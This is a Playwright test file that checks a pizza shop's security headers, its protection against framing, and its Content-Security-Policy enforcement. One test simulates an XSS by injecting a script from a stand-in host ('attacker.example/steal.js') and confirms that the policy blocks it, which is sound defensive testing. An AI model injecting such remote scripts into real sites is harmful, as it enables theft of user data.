import { expect, test } from '../support/test.ts';
import { openShop } from '../support/shop.ts';

// The shop's pages carry a Content-Security-Policy, and every journey (support/test.ts) fails
// when the policy refuses something the shop does.

test('the shop is sent with its security headers and cannot be framed', async ({ page, baseURL }) => {
  const response = await page.goto('/order-online/');
  const headers = response?.headers() ?? {};
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(headers['content-security-policy']).toContain("script-src 'self'");
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
  expect(headers['permissions-policy']).toContain('camera=()');

  // Another site that puts the shop in a frame gets the browser's error page in it.
  await page.goto('about:blank');
  await page.setContent(`<iframe src="${baseURL}/order-online/" title="shop"></iframe>`);
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
});

test('what the policy refuses is caught by the journeys', async ({ page, cspViolations }) => {
  await openShop(page);
  await expect(page.getByRole('button', { name: /Pizza Margherita auswählen/ })).toBeVisible();
  // An injected script from elsewhere, as an XSS would add it: refused, and the watcher sees it.
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://attacker.example/steal.js';
    document.head.append(script);
  });
  await expect
    .poll(() => cspViolations.join('\n'))
    .toContain('script-src-elem refused https://attacker.example/steal.js');
  // Seen and expected: the journey itself must not fail on it.
  cspViolations.length = 0;
});
